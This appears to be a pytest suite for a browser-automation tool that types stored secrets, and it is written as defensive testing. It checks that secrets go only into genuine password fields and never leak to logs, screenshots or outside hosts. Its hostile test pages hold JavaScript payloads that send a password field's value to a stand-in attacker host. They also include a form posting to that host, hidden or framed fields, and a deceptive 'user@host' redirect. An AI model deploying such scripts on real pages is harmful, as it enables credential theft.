"""Hostile pages and flows where a secret is at stake: it is typed where it belongs, and nothing else ever shows it."""

from __future__ import annotations

import shutil
import struct
import tempfile
import zlib
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import pytest
from playwright.async_api import BrowserContext, Playwright

from tests.hostile.scene import (
    ASSETS,
    ECHO,
    EVIL,
    FIELD,
    FILL,
    OPEN,
    SITE,
    Told,
    leaks,
    outcome,
    running,
    site,
    typed,
)
from tests.hostile.traps import Trap, traps
from tests.support.web import Web
from toolkit.browser.launch import driver, robot
from toolkit.browser.wall import Wall
from toolkit.catalog.steps import SecretName
from toolkit.runner.probe import probe
from toolkit.secrets import Secret

pytestmark = [pytest.mark.browser, pytest.mark.anyio, pytest.mark.xdist_group("hostile-flows")]


@pytest.fixture(scope="module")
def folder(chromium_path: Path) -> Iterator[Path]:
    path = Path(tempfile.mkdtemp(prefix="flows"))
    yield path
    shutil.rmtree(path, ignore_errors=True)


@pytest.fixture(scope="module")
async def playwright() -> AsyncIterator[Playwright]:
    async with driver() as running:
        yield running


@pytest.fixture(scope="module")
def wall(web: Web) -> Wall:
    return Wall(["site.test", "assets.test"], web.args)


@pytest.fixture(scope="module")
async def context(web: Web, wall: Wall, playwright: Playwright, folder: Path) -> AsyncIterator[BrowserContext]:
    async with robot(playwright, web.start(folder / "profile"), wall, headless=True) as running:
        yield running


@pytest.fixture(autouse=True)
def fresh(web: Web) -> None:
    web.pages.clear()
    web.seen.clear()


@pytest.fixture
def told() -> Iterator[Told]:
    told = Told()
    yield told
    assert not leaks("\n".join(told.texts))


@pytest.fixture
def trap() -> Iterator[Trap]:
    with traps(["stranger"]) as found:
        yield found["stranger"]


async def test_the_control_a_good_form_gets_it(context: BrowserContext, wall: Wall, told: Told, web: Web) -> None:
    named = FIELD.replace("id=p", "id=p name=p")
    web.page(f"{SITE}/login", f"<form method=post action=/in>{named}<button>x</button></form>")
    async with running(context, wall, told) as run:
        assert await outcome(run, OPEN, FILL, "click: button", "wait: {path: /in}") == "done"
    assert web.requests(f"{SITE}/in")[0].body == b"p=Correct-Horse+7%26%C3%A9"
    assert told.asked == 1


REFUSED = {
    "a text field": "<input id=p type=text>",
    "a field for mail addresses": "<input id=p type=email>",
    "a text area": "<textarea id=p></textarea>",
    "an editable paragraph": "<div id=p contenteditable>x</div>",
    "an opaque layer over nothing": "<div style='opacity:0'><input id=p type=password></div>",
    "a dot of a field": "<input id=p type=password style='width:1px;height:1px;padding:0;border:0'>",
    "a field left of the page": "<input id=p type=password style='position:absolute;left:-9999px'>",
    "a field above the page": "<input id=p type=password style='position:absolute;top:-9999px'>",
    "a frame of a stranger with the platform's assets": f"<iframe src=https://{ASSETS}/frame></iframe>",
    "a frame without an address": "<iframe srcdoc='<input id=p type=password>'></iframe>",
    "an empty frame that is written into": "<iframe id=f></iframe><script>"
    "f.contentDocument.body.innerHTML = '<input id=p type=password>'</script>",
    "a data frame": "<iframe src='data:text/html,<input id=p type=password>'></iframe>",
    "a frame in a stranger's frame": f"<iframe src=https://{ASSETS}/around></iframe>",
}
_IN_FRAMES = {name for name in REFUSED if "frame" in name}


@pytest.mark.parametrize("name", REFUSED)
async def test_it_is_not_typed_into(context: BrowserContext, wall: Wall, told: Told, web: Web, name: str) -> None:
    web.page(f"{SITE}/login", REFUSED[name])
    web.page(f"{ASSETS}/frame", FIELD)
    web.page(f"{ASSETS}/around", f"<iframe src=https://{SITE}/inner></iframe>")
    web.page(f"{SITE}/inner", FIELD)
    async with running(context, wall, told) as run:
        code = await outcome(run, OPEN, FILL)
        # a frame of a stranger is not even looked into, unless the flow says which
        assert code == "secret_refused" or (name in _IN_FRAMES and code == "selector_gone")
        assert await typed(run) == []
        if name in _IN_FRAMES:
            named = FILL.replace("'#p'", "{css: '#p', frame: iframe}")
            assert await outcome(run, named) in {"secret_refused", "selector_gone"}
            assert await typed(run) == []
    assert told.asked == 0


async def test_hidden_fields_are_not_found(context: BrowserContext, wall: Wall, told: Told, web: Web) -> None:
    hidden = ("display:none", "visibility:hidden", "width:0;height:0;padding:0;border:0")
    web.page(f"{SITE}/login", "".join(f"<input id=p type=password style='{style}'>" for style in hidden))
    async with running(context, wall, told) as run:
        assert await outcome(run, OPEN, FILL.replace("3", "0.5")) == "selector_gone"
    assert told.asked == 0


async def test_no_secret_over_plain_http(context: BrowserContext, wall: Wall, told: Told, web: Web) -> None:
    away = f"<script>if (location.protocol == 'https:') location = 'http://{SITE}/login'</script>"
    web.page(f"{SITE}/login", away + FIELD)
    async with running(context, wall, told) as run:
        pause = "{wait: {visible: '#none'}, within: 1.5, optional: true}"
        code = await outcome(run, OPEN, "{wait: {visible: '#p'}}", pause, FILL)
        assert run.page.url.startswith("http:")
        assert code == "secret_refused"
        assert await typed(run) == []
    assert told.asked == 0


async def test_no_secret_after_the_page_went_on(context: BrowserContext, wall: Wall, told: Told, web: Web) -> None:
    """To a host that the wall lets through: the platform's assets are not the platform."""
    web.page(f"{SITE}/login", f"<script>location = 'https://{ASSETS}/login'</script>")
    web.page(f"{ASSETS}/login", FIELD)
    async with running(context, wall, told) as run:
        assert await outcome(run, OPEN, FILL) == "secret_refused"
        assert await typed(run) == []
    assert told.asked == 0


async def test_no_secret_for_a_stranger_behind_an_at(context: BrowserContext, wall: Wall, told: Told, web: Web) -> None:
    """`https://site.test:x@stranger/`: the browser shows the whole of it as the page's address."""
    web.page(f"{SITE}/login", f"<script>location = 'https://site.test:x@{ASSETS}/login'</script>")
    web.page(f"{ASSETS}/login", FIELD)
    async with running(context, wall, told) as run:
        assert await outcome(run, OPEN, FILL) == "secret_refused"
        assert run.page.url.startswith("https://site.test:x@")
        assert not run.site.owns(run.page.url)
        assert await typed(run) == []
    assert told.asked == 0


@pytest.mark.parametrize("change", ["p.replaceWith(p.cloneNode())", f"location = 'https://{ASSETS}/login'"])
async def test_a_field_that_goes_while_the_secret_is_fetched(
    context: BrowserContext, wall: Wall, told: Told, web: Web, change: str
) -> None:
    web.page(f"{SITE}/login", FIELD)
    web.page(f"{ASSETS}/login", FIELD)
    async with running(context, wall, told) as run:

        async def slow(name: SecretName) -> Secret:
            await run.page.evaluate(f"() => {{ {change} }}")
            await run.page.wait_for_timeout(600)
            return await told.secret(name)

        run.secret = slow
        assert await outcome(run, OPEN, FILL) in {"selector_gone", "secret_refused"}
        assert await typed(run) == []


async def test_a_form_to_a_stranger_is_stopped(
    context: BrowserContext, wall: Wall, told: Told, web: Web, trap: Trap
) -> None:
    form = f"<form method=post action=https://{EVIL}:{trap.port}/in>{FIELD}<button>x</button></form>"
    web.page(f"{SITE}/login", form)
    async with running(context, wall, told) as run:
        code = await outcome(run, OPEN, FILL, "click: button", "{wait: {path: /in}, within: 1.5}")
        assert code == "host_blocked"
        assert f"{EVIL}:{trap.port}" in run.blocked or "stranger.test" in run.blocked[0]
    assert trap.caught == []


LEAKY = {
    "a host made of it": f"fetch('https://' + p.value.split(' ')[0] + '.{EVIL}/')",
    "a popup": f"window.open('https://{EVIL}/?' + p.value)",
    "a path made of it": "history.pushState(0, '', '/at/' + encodeURIComponent(p.value) + '?' + p.value)",
    "a socket": f"new WebSocket('wss://{EVIL}/' + encodeURIComponent(p.value))",
    "a dialog": "alert(p.value)",
    "the title and the console": "document.title = p.value; console.log(p.value); console.error(new Error(p.value))",
}


@pytest.mark.parametrize("name", LEAKY)
async def test_no_text_repeats_what_a_page_does_with_it(
    context: BrowserContext, wall: Wall, told: Told, web: Web, name: str
) -> None:
    web.page(f"{SITE}/login", FIELD + ECHO % LEAKY[name])
    async with running(context, wall, told) as run:
        code = await outcome(
            run,
            OPEN,
            FILL,
            "{wait: {visible: '#none'}, within: 0.7, optional: true}",
            "{expect: {that: {visible: '#none'}}, within: 0.3}",
        )
        assert code == "expectation_failed"
        assert not leaks(str(run.blocked))
    for page in context.pages:
        if "stranger" in page.url or page.url == "about:blank":
            assert web.requests(f"{EVIL}/") == []


async def test_a_field_that_takes_nothing_is_not_quoted(
    context: BrowserContext, wall: Wall, told: Told, web: Web, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Playwright's message of a failed fill quotes the value: it must not be seen."""
    web.page(f"{SITE}/login", FIELD.replace("id=p", "id=p disabled"))
    async with running(context, wall, told) as run:
        assert await outcome(run, OPEN, FILL) == "selector_gone"


async def test_pictures_show_no_secret(
    context: BrowserContext, wall: Wall, told: Told, web: Web, tmp_path: Path
) -> None:
    """Before: fields are covered. With a secret on the page, which may show it anywhere: no picture at all."""
    plain = "<input value=visible style='all:unset;display:block;width:300px;height:300px;background:lime'>"
    web.page(f"{SITE}/login", plain + FIELD + "<p id=q></p>" + ECHO % "q.textContent = p.value")
    web.page(f"{SITE}/next", "next")
    async with running(context, wall, told, pictures=tmp_path / "pictures") as run:
        steps = (OPEN, "screenshot: before", FILL, "screenshot: during")
        assert await outcome(run, *steps, f"open: https://{SITE}/next", "screenshot: after") == "done"
        assert run.page.url.endswith("/next")
    assert sorted(path.name for path in (tmp_path / "pictures").iterdir()) == ["site-after.png", "site-before.png"]
    assert not has_colour(tmp_path / "pictures" / "site-before.png", (0, 255, 0))
    assert has_colour(tmp_path / "pictures" / "site-before.png", (255, 0, 255))  # Playwright's mask


def has_colour(picture: Path, colour: tuple[int, int, int]) -> bool:
    """Whether a PNG has a run of that colour; rows are unfiltered just enough for that (PNG specification, 9)."""
    data, at, packed = picture.read_bytes(), 8, b""
    width = height = kind = 0
    while at < len(data):
        size, name = struct.unpack(">I4s", data[at : at + 8])
        if name == b"IHDR":
            width, height, _, kind = struct.unpack(">IIBB", data[at + 8 : at + 18])
        elif name == b"IDAT":
            packed += data[at + 8 : at + 8 + size]
        at += size + 12
    step = {2: 3, 6: 4}[kind]
    raw, above = zlib.decompress(packed), bytearray(width * step)
    for row in range(height):
        start = row * (width * step + 1)
        line = bytearray(raw[start + 1 : start + 1 + width * step])
        for i in range(len(line)):
            left, up = (line[i - step] if i >= step else 0), above[i]
            corner = above[i - step] if i >= step else 0
            guess = min((left, up, corner), key=lambda c: abs(left + up - corner - c))  # the first of equals: left
            line[i] = (line[i] + (0, left, up, (left + up) // 2, guess)[raw[start]]) & 255
        if bytes(colour) * 1 in (bytes(line[i : i + 3]) for i in range(0, len(line), step * 8)):
            return True
        above = line
    return False


async def test_behind_a_proxy_no_secret_is_typed(context: BrowserContext, told: Told, web: Web) -> None:
    web.page(f"{SITE}/login", FIELD)
    proxied = Wall(["site.test"], [*web.args, "--proxy-server=127.0.0.1:9"])
    assert proxied.behind_proxy
    async with running(context, proxied, told) as run:
        assert await outcome(run, OPEN, FILL) == "proxy"
        assert await typed(run) == []
    assert told.asked == 0


@pytest.mark.parametrize("variable", ["HTTPS_PROXY", "http_proxy", "ALL_PROXY"])
def test_the_machine_s_proxy_counts_as_well(variable: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(variable, "http://proxy.example:3128")
    assert Wall(["site.test"]).behind_proxy
    assert "--no-proxy-server" not in Wall(["site.test"]).args()
    assert not Wall(["127.0.0.1:8008"]).behind_proxy


# --- requests ---

REQUEST = (
    "request: {url: 'https://%s/out', method: POST,"
    " tokens: {from: {meta: csrf, page: 'https://%s/token'}, into: {header: X-CSRF}}}"
)


async def test_a_request_to_a_stranger_reaches_nobody(
    context: BrowserContext, wall: Wall, told: Told, web: Web
) -> None:
    """The catalogue refuses such a file (checks.py); should one get here all the same, the wall holds."""
    async with running(context, wall, told) as run:
        code = await outcome(run, f"request: {{url: 'https://{EVIL}/out', method: POST}}")
        assert code in {"host_blocked", "network_down"}
    assert [seen for seen in web.seen if seen.host == EVIL] == []


@pytest.mark.parametrize("status", [302, 307, 308])
async def test_a_request_that_is_sent_on_to_a_stranger(
    context: BrowserContext, wall: Wall, told: Told, web: Web, status: int
) -> None:
    web.page(f"{SITE}/out", headers=[("Location", f"https://{EVIL}/out")], status=status)
    async with running(context, wall, told) as run:
        assert await outcome(run, f"request: {{url: 'https://{SITE}/out', method: POST}}") == "host_blocked"
    assert [seen for seen in web.seen if seen.host == EVIL] == []


async def test_an_answer_of_the_assets_is_none_of_the_platform(
    context: BrowserContext, wall: Wall, told: Told, web: Web
) -> None:
    allow = [("Access-Control-Allow-Origin", "*"), ("Content-Type", "application/json")]
    web.page(f"{SITE}/out", headers=[("Location", f"https://{ASSETS}/out")], status=302)
    web.page(f"{ASSETS}/out", headers=allow)
    async with running(context, wall, told) as run:
        # On loopback Chromium itself may refuse first (a request from a page that came from no network).
        assert await outcome(run, f"request: {{url: 'https://{SITE}/out'}}") in {"host_blocked", "network_down"}
        assert run.answer is None


async def test_a_token_from_a_stranger_s_page_is_not_used(
    context: BrowserContext, wall: Wall, told: Told, web: Web
) -> None:
    for host in (EVIL, ASSETS):
        web.seen.clear()
        web.page(f"{SITE}/token", headers=[("Location", f"https://{host}/token")], status=302)
        web.page(f"{ASSETS}/token", "<meta name=csrf content=evil>", headers=[("Access-Control-Allow-Origin", "*")])
        async with running(context, wall, told) as run:
            assert await outcome(run, REQUEST % (SITE, SITE)) in {"host_blocked", "network_down"}
        assert web.requests(f"{SITE}/out") == []


async def test_a_site_s_own_scripts_and_workers_do_not_see_a_request(
    context: BrowserContext, wall: Wall, told: Told, web: Web
) -> None:
    web.page(f"{SITE}/login", "<script>window.fetch = () => { throw 1 }</script>")
    web.page(f"{SITE}/token", "<meta name=csrf content=good>")
    async with running(context, wall, told) as run:
        assert await outcome(run, OPEN, REQUEST % (SITE, SITE)) == "done"
    assert len(web.requests(f"{SITE}/out")) == 1


# --- probe ---


async def test_a_probe_does_not_believe_a_stranger(context: BrowserContext, wall: Wall, web: Web) -> None:
    web.page(f"{SITE}/me", f"<script>location = 'https://{EVIL}/me'</script>")
    web.page(f"{EVIL}/me", "<b id=in>in</b>")
    answer = await probe(context, site(), wall, timeout=3)
    assert (answer.state, answer.reason and answer.reason.code) == ("unknown", "host_blocked")
    assert [seen for seen in web.seen if seen.host == EVIL] == []
